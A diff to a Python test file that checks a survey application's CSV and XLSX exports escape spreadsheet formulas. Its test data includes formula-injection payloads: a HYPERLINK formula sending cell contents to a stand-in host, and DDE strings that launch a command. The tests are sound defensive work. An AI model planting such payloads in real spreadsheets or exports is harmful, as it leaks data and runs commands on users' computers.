@@ -21,8 +21,6 @@ from citizenfocus.surveys.importing import ImportRefused, survey_import
 from tests.performance.conftest import demo_data  # noqa: F401  (fixture)
 from tests.plans.conftest import imported, plan_docx  # noqa: F401  (fixtures)
 
-pytestmark = pytest.mark.usefixtures("demo_data")
-
 HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 HOSTILE = {"id": HOSTILE_ID, "comment": "+cmd|' /C calc'!A0", "value": "@SUM(1+1)*cmd|' /C calc'!A0",
            "action": "=1+1 launch", "title": "-2+3 plan", "tab": "\t=1+2"}
@@ -118,6 +116,7 @@ def _unsafe(cells: list) -> list:
     return bad
 
 
+@pytest.mark.usefixtures("demo_data")
 def test_every_csv_and_xlsx_export_of_every_page_holds_no_formula(client, users, imported, tmp_path):  # noqa: F811
     pks = _plant(users, imported, tmp_path)
     client.force_login(users["administrator"])
@@ -155,7 +154,7 @@ def test_negative_numbers_stay_numbers_and_plain_text_is_untouched():
 def test_the_indicators_command_writes_no_formula_in_its_csv(monkeypatch, capsys):
     from citizenfocus.cli import indicators
 
-    indicators._print_csv([{"group": HOSTILE_ID, "rate": -0.25, "label": "-12 points"}])
+    indicators._print_csv([{"group": HOSTILE_ID, "rate": -0.25, "diff": "-12", "label": "-12 points"}])
 
     lines = capsys.readouterr().out.splitlines()
-    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",-0.25,-12 points")
+    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",-0.25,-12,'-12 points")
